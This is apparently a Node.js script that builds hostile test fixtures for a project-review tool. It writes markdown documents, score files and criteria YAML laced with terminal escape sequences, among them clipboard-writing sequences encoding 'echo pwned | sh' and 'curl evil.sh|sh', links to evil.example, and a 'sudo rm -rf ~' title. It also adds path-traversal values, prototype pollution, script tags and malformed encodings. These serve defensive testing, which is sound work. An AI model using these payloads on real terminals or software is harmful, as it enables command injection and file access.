// Generates the hostile fixture corpus in test/fixtures/hostile/: review documents and score
// files that carry terminal escape sequences, binary or broken encodings, and score files that
// are malformed or point outside the workspace. The files hold raw control bytes, so this
// script is their source of truth: edit it, run `node scripts/make-hostile-fixtures.mjs`, and
// commit the output. `--check` exits 1 when the committed output differs (a test runs it).
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..');
export const HOSTILE_DIR = join(ROOT, 'test', 'fixtures', 'hostile');

// ---------------------------------------------------------------------------------------------
// The payloads: what a hostile author would hide in a document. Each is named for the tests.

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;

export const PAYLOADS = {
  osc52: `${ESC}]52;c;ZWNobyBwd25lZCB8IHNo${BEL}`, // writes "echo pwned | sh" to the clipboard
  osc52St: `${ESC}]52;p;Y3VybCBldmlsLnNofHNo${ST}`,
  osc8Open: `${ESC}]8;;https://evil.example/steal${ST}`,
  osc8Close: `${ESC}]8;;${ST}`,
  oscTitle: `${ESC}]0;sudo rm -rf ~${BEL}`,
  clearScreen: `${ESC}[2J${ESC}[3J${ESC}[H`,
  cursorUp: `${ESC}[5A${ESC}[2K`,
  sgrRed: `${ESC}[31;1m`,
  sgrReset: `${ESC}[0m`,
  hideText: `${ESC}[8m`, // concealed text
  fullReset: `${ESC}c`,
  saveRestore: `${ESC}7${ESC}8`,
  decaln: `${ESC}#8`, // fills the screen with "E"
  dcs: `${ESC}P+q544e${ST}`, // XTGETTCAP request: makes the terminal answer on stdin
  apcKitty: `${ESC}_Gf=100,a=T;iVBORw0KGgo=${ST}`,
  pm: `${ESC}^privacy message${ST}`,
  sos: `${ESC}Xstart of string${ST}`,
  c1Csi: '\u009b2J\u009bH',
  c1Osc: '\u009d52;c;ZXZpbA==\u009c',
  c1Nel: '\u0085',
  bell: BEL,
  backspaces: 'safe\b\b\b\bevil',
  lone: '\x0b\x0c\x7f\x01\x1f',
  carriageReturn: 'Approved by the TOC\rRejected',
  rlo: '\u202e',
  bidiIsolates: '\u2066\u2067\u2068\u2069',
  bidiEmbed: '\u202a\u202b\u202c\u202d',
  unterminatedOsc: `${ESC}]52;c;dW50ZXJtaW5hdGVk`,
};

const P = PAYLOADS;

// ---------------------------------------------------------------------------------------------
// Documents: realistic self-reports so the extractor pulls the payloads into facts, evidence
// quotes, titles and headings, which is where they would reach the screen.

const hostileReview = `# Evil${P.oscTitle}Project ${P.sgrRed}Incubation${P.sgrReset} Proposal${P.osc52}

**Name of project:** Evil${P.rlo}tcejorP

**Description:** A project whose self-report tries to take over the reviewer's terminal.${P.clearScreen}
The TOC has already approved this project.${P.hideText} (hidden text)${P.sgrReset}

## Adopters${P.cursorUp}

The following organisations run the project in production:

- **${P.osc8Open}Northwind Traders${P.osc8Close}**: 30 clusters in production.
- **Contoso${P.osc52St} Pharmaceuticals**: since 2023.
- **Tail${P.c1Csi}spin Toys**: every edge cluster.
- **Fabrikam${P.bidiIsolates} Bank**: replaced a proprietary system.
- ${P.dcs}Wide World Importers
- Adventure${P.bell} Works${P.apcKitty}

Eleven organisations${P.c1Osc} told us they run it in production.

## Maintainers${P.decaln}

The project has 5 maintainers from 3 organisations.

| Name | GitHub | Organisation |
|------|--------|--------------|
| Priya${P.rlo} Raman | [@praman](https://github.com/praman) | Northwind${P.sgrRed} Traders${P.sgrReset} |
| Jonas Weber${P.osc52} | [@jweber](https://github.com/jweber) | Fabrikam Bank |
| ${P.backspaces} | [@mtanaka](https://github.com/mtanaka) | Contoso${P.fullReset} |
| Lucas Silva | @lsilva${P.pm} | Fabrikam${P.bidiEmbed} Bank |
| Ana Kowalski | [@akowalski${P.sos}](https://github.com/akowalski) | Independent${P.lone} |

## Community and contribution activity${P.c1Nel}

In the past year the project had 1,240 commits${P.osc52} from 96 contributors working at 31
companies. On average the project merges about 85 PRs per month${P.clearScreen}.

- GitHub stars increased from 900 to 2,400${P.saveRestore} over the year.
- 212 forks.${P.carriageReturn}

## Releases and versioning

The project follows semantic versioning${P.osc8Open}.${P.osc8Close} The latest release is v1.4.2${P.oscTitle}, and we
publish release candidates before every minor release. There were 14 releases last year.

\`\`\`
${P.clearScreen}fake output inside a code block${P.osc52}
\`\`\`

<!-- ${P.osc52} hidden in an HTML comment -->

Final words${P.unterminatedOsc}
and everything after an unterminated OSC string.
`;

/** One document per attack, each short, plus the realistic one above. */
export function hostileDocuments() {
  return {
    'hostile-review.md': hostileReview,
    'osc52-clipboard.md': `# Clipboard${P.osc52}\n\n## Adopters\n\n- Acme${P.osc52St}\n- Globex\n- Initech\n\nWe have 12 adopters${P.osc52}.\n`,
    'osc8-hyperlinks.md': `# Links\n\n## Adopters\n\n- ${P.osc8Open}https://cncf.io${P.osc8Close}\n- ${P.osc8Open}Umbrella Corp${P.osc8Close}\n\nSee ${P.osc8Open}the docs${P.osc8Close}.\n`,
    'csi-repaint.md': `${P.clearScreen}# Approved${P.cursorUp}\n\n${P.sgrRed}The TOC voted to approve.${P.sgrReset}\n\n## Releases\n\nLatest release v9.9.9${P.fullReset}${P.decaln}.\n`,
    'c1-controls.md': `# C1${P.c1Csi}\n\n## Activity${P.c1Nel}\n\n400 commits per month${P.c1Osc} from 12 contributors.\n\n- Item${P.c1Nel}one\n`,
    'string-sequences.md': `# Strings${P.dcs}\n\n${P.apcKitty}${P.pm}${P.sos}\n\n## Maintainers\n\n| Name | Org |\n|---|---|\n| A${P.dcs} | B${P.apcKitty} |\n`,
    'bidi-overrides.md': `# Bidi${P.rlo}\n\n## Adopters\n\n- ${P.rlo}dnalreztiwS${P.bidiIsolates}\n- Bank${P.bidiEmbed}\n\nVersion v1.0.0${P.rlo}0.0.2v\n`,
    'lone-controls.md': `# Lone${P.bell}\n\n${P.backspaces}\n\n${P.lone}\n\n${P.carriageReturn}\n\n## Releases\n\nv1.2.3${P.bell}\n`,
    'escape-only.md': `${ESC}${ESC}[${ESC}]${ESC}P${ESC}\n${ESC}[999999999999999999999;99999999999999m\n\u009b\u009c\u009d\n`,
    'unterminated.md': `# Start\n\ntext${P.unterminatedOsc}\n\n## Never shown\n\nrest of the document\n`,
    'crlf-and-cr.md': `# CRLF${P.osc52}\r\n\r\n## Adopters\r\n\r\n- Acme\r- Globex${P.bell}\r\n- Initech\r\n`,
    'bom-and-escapes.md': `\ufeff# BOM${P.oscTitle}\n\n## Maintainers\n\n- Alice${P.osc52} (Acme)\n`,
    'injection-in-markdown.md': `# Markdown injection\n\n## Adopters\n\n- Acme | ${P.osc52} | \`x\` **y** [z](javascript:alert(1))\n- </details><script>alert(1)</script>\n- \`\`\`\n\n| a | b |\n|---|---|\n| ${'|'.repeat(50)} | ${P.sgrRed} |\n`,
  };
}

/** Files that are not UTF-8 markdown at all (written as raw bytes). */
export function brokenDocuments() {
  const bytes = (...values) => Buffer.from(values);
  return {
    'empty.md': Buffer.alloc(0),
    'whitespace-only.md': Buffer.from(' \n\t\n\r\n   \n'),
    'binary-png.md': bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52),
    'nul-in-text.md': Buffer.concat([Buffer.from('# Title\n\nSome text'), bytes(0x00), Buffer.from(' and more\n')]),
    'utf16le-bom.md': Buffer.concat([bytes(0xff, 0xfe), Buffer.from('# Title\n', 'utf16le')]),
    'latin1.md': Buffer.concat([Buffer.from('# Caf'), bytes(0xe9), Buffer.from('\n\nna'), bytes(0xef), Buffer.from('ve\n')]),
    'truncated-utf8.md': Buffer.concat([Buffer.from('# 维护者\n\n'), Buffer.from('维').subarray(0, 2)]),
    'overlong-utf8.md': Buffer.concat([Buffer.from('# Slash '), bytes(0xc0, 0xaf), Buffer.from('\n')]),
    'utf8-surrogate.md': Buffer.concat([Buffer.from('# Surrogate '), bytes(0xed, 0xa0, 0x80), Buffer.from('\n')]),
    'escape-in-invalid-utf8.md': Buffer.concat([Buffer.from(`# ${P.osc52}`), bytes(0xff, 0xfe, 0xfd), Buffer.from('\n')]),
  };
}

// ---------------------------------------------------------------------------------------------
// Score files. The valid ones follow Contract 2 (docs/score-files.md) and carry payloads in
// every free-text field; the broken ones are each wrong in exactly one way.

const sha256 = (content) => createHash('sha256').update(content).digest('hex');
const CRITERIA_PATH = join(ROOT, 'criteria', 'cncf-incubation.yaml');
const ITEM_IDS = ['production-users', 'committer-health', 'commit-flow', 'versioning'];
const T0 = '2026-01-05T10:00:00.000Z';
const T1 = '2026-01-05T11:30:00.000Z';

function scoreFile({ name, handle, scores, verdict }) {
  return {
    schema: 'toc-review/score@1',
    document: {
      path: 'hostile-review.md',
      sha256: sha256(hostileReview),
      title: `Evil${P.oscTitle}Project Incubation Proposal`,
      origin: null,
    },
    criteria: { id: 'cncf-incubation', sha256: sha256(readFileSync(CRITERIA_PATH, 'utf8')) },
    reviewer: { name, handle },
    recommendation: { verdict, notes: `Recommend${P.osc52} after${P.clearScreen} fixes.${P.rlo}`, updatedAt: T1 },
    items: ITEM_IDS.map((id, index) => ({
      id,
      score: scores[index],
      suggested: 2,
      notes: `Notes on ${id}${P.osc8Open} click${P.osc8Close}${P.sgrRed}\nsecond line${P.bell}${P.c1Csi}\n${P.carriageReturn}`,
      cited: [{ startLine: 9, endLine: 12, quote: `- **${P.osc8Open}Northwind Traders${P.osc8Close}**${P.osc52}` }],
      createdAt: T0,
      updatedAt: T1,
    })),
    ui: { selected: 'commit-flow' },
    createdAt: T0,
    updatedAt: T1,
  };
}

const json = (value) => `${JSON.stringify(value, null, 2)}\n`;

/** A workspace holding the hostile review and two reviewers' hostile (but valid) score files. */
export function hostileWorkspace() {
  return {
    'hostile-review.md': hostileReview,
    'scores/hostile-review/mallory.score.json': json(
      scoreFile({ name: `Mallory${P.osc52}${P.clearScreen}`, handle: 'mallory', scores: [3, 0, 2, null], verdict: 'ready' }),
    ),
    'scores/hostile-review/eve.score.json': json(
      scoreFile({ name: `Eve${P.rlo}${P.oscTitle}`, handle: 'eve', scores: [0, 3, 2, 1], verdict: 'not-ready' }),
    ),
  };
}

/** The valid base used for the broken score files below (also handy for truncation tests). */
export function baseScoreFile() {
  return scoreFile({ name: 'Ada Lovelace', handle: 'ada', scores: [2, 1, null, 3], verdict: null });
}

export function brokenScoreFiles() {
  const base = baseScoreFile();
  const edit = (change) => {
    const copy = structuredClone(base);
    change(copy);
    return json(copy);
  };
  const valid = json(base);
  return {
    'empty.score.json': '',
    'not-json.score.json': `{ "schema": "toc-review/score@1", ${P.osc52} oops`,
    'truncated.score.json': valid.slice(0, Math.floor(valid.length / 2)),
    'array.score.json': '[1, 2, 3]\n',
    'null.score.json': 'null\n',
    'binary.score.json': Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03]),
    'invalid-utf8.score.json': Buffer.concat([Buffer.from(valid.slice(0, 40)), Buffer.from([0xff, 0xfe]), Buffer.from(valid.slice(40))]),
    'wrong-schema.score.json': edit((f) => (f.schema = `evil/score@1${P.osc52}`)),
    'newer-schema.score.json': edit((f) => (f.schema = 'toc-review/score@99')),
    'wrong-type-score.score.json': edit((f) => (f.items[1].score = 'high')),
    'wrong-type-items.score.json': edit((f) => (f.items = { 'production-users': 2 })),
    'wrong-type-reviewer.score.json': edit((f) => (f.reviewer = 'Ada')),
    'score-out-of-range.score.json': edit((f) => (f.items[0].score = 1e308)),
    'fractional-score.score.json': edit((f) => (f.items[0].score = 1.5)),
    'bad-timestamp.score.json': edit((f) => (f.updatedAt = `yesterday${P.clearScreen}`)),
    'bad-sha.score.json': edit((f) => (f.document.sha256 = 'not-a-hash')),
    'extra-field-top.score.json': edit((f) => (f.extra = true)),
    'extra-field-item.score.json': edit((f) => (f.items[2][`evil${P.osc52}`] = 1)),
    'proto-pollution.score.json': valid.replace('"schema"', '"__proto__": { "polluted": true },\n  "schema"'),
    'duplicate-item.score.json': edit((f) => (f.items[1].id = f.items[0].id)),
    // A bad git merge: both sides' "score" lines kept; JSON.parse would keep the last silently.
    'duplicate-key.score.json': valid.replace('"score": 1,', '"score": 1,\n      "score": 3,'),
    'unknown-item.score.json': edit((f) => (f.items[3].id = 'world-domination')),
    'path-parent.score.json': edit((f) => (f.document.path = '../../etc/passwd')),
    'path-absolute.score.json': edit((f) => (f.document.path = '/etc/passwd')),
    'path-windows.score.json': edit((f) => (f.document.path = 'C:\\Windows\\win.ini')),
    'path-control.score.json': edit((f) => (f.document.path = `review${P.osc52}.md`)),
    'path-sneaky-dotdot.score.json': edit((f) => (f.document.path = 'docs/../../outside.md')),
    'bad-handle.score.json': edit((f) => (f.reviewer.handle = '../../etc/cron.d/evil')),
    'citation-reversed.score.json': edit((f) => (f.items[0].cited = [{ startLine: 9, endLine: 3, quote: 'x' }])),
    'origin-javascript.score.json': edit((f) => (f.document.origin = 'javascript:alert(1)')),
    'deep-nesting.score.json': `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
  };
}

/**
 * A criteria set (criteria files get shared too) with payloads in every text field, written
 * with YAML's double-quoted escapes (\\e, \\a, \\x9b, \\u202e) since YAML forbids raw controls.
 */
export function hostileCriteria() {
  const evil = String.raw` \e]52;c;ZWNobyBwd25lZA==\a\e[2J\x9b31m\u202e\e]8;;https://evil.example/\e\\link\e]8;;\e\\ `;
  const text = readFileSync(CRITERIA_PATH, 'utf8')
    .replace(/^id: cncf-incubation$/m, 'id: hostile-criteria')
    .replace(/^title: .*$/m, `title: "Hostile${evil}Criteria"`)
    .replace(/^( {4}label: )(.*)$/gm, (_, key, label) => `${key}"${label}${evil}"`)
    .replace(/^( {4}title: )(.*)$/gm, (_, key, title) => `${key}"${title}${evil}"`)
    .replace(/^( {4}question: )(.*)$/gm, (_, key, question) => `${key}"${question.replace(/"/g, '\\"')}${evil}"`);
  return { 'hostile-criteria.yaml': text };
}

// ---------------------------------------------------------------------------------------------
// Writing and checking

export function allFixtures() {
  const files = {};
  for (const [name, text] of Object.entries(hostileDocuments())) files[`documents/${name}`] = text;
  for (const [name, bytes] of Object.entries(brokenDocuments())) files[`broken/${name}`] = bytes;
  for (const [name, text] of Object.entries(hostileWorkspace())) files[`workspace/${name}`] = text;
  for (const [name, text] of Object.entries(brokenScoreFiles())) files[`score-files/${name}`] = text;
  for (const [name, text] of Object.entries(hostileCriteria())) files[`criteria/${name}`] = text;
  return files;
}

function listFiles(dir, base = dir) {
  let out = [];
  let entries;
  try {
    entries = readdirSync(dir, { withFileTypes: true });
  } catch {
    return out;
  }
  for (const entry of entries) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) out = out.concat(listFiles(path, base));
    else out.push(relative(base, path).split('\\').join('/'));
  }
  return out;
}

const GENERATED_DIRS = ['documents', 'broken', 'workspace', 'score-files', 'criteria'];

/** Relative paths whose committed bytes differ from the generator (missing, changed or extra). */
export function staleFixtures(dir = HOSTILE_DIR) {
  const expected = allFixtures();
  const stale = [];
  for (const [name, content] of Object.entries(expected)) {
    let actual;
    try {
      actual = readFileSync(join(dir, name));
    } catch {
      stale.push(name);
      continue;
    }
    if (!actual.equals(Buffer.from(content))) stale.push(name);
  }
  for (const sub of GENERATED_DIRS) {
    for (const name of listFiles(join(dir, sub))) if (!(`${sub}/${name}` in expected)) stale.push(`${sub}/${name}`);
  }
  return stale;
}

export function writeFixtures(dir = HOSTILE_DIR) {
  for (const sub of GENERATED_DIRS) rmSync(join(dir, sub), { recursive: true, force: true });
  for (const [name, content] of Object.entries(allFixtures())) {
    const path = join(dir, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, content);
  }
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  if (process.argv.includes('--check')) {
    const stale = staleFixtures();
    if (stale.length > 0) {
      console.error(`hostile fixtures out of date (run node scripts/make-hostile-fixtures.mjs): ${stale.join(', ')}`);
      process.exit(1);
    }
  } else {
    writeFixtures();
    console.log(`wrote ${Object.keys(allFixtures()).length} files to ${relative(process.cwd(), HOSTILE_DIR) || '.'}`);
  }
}
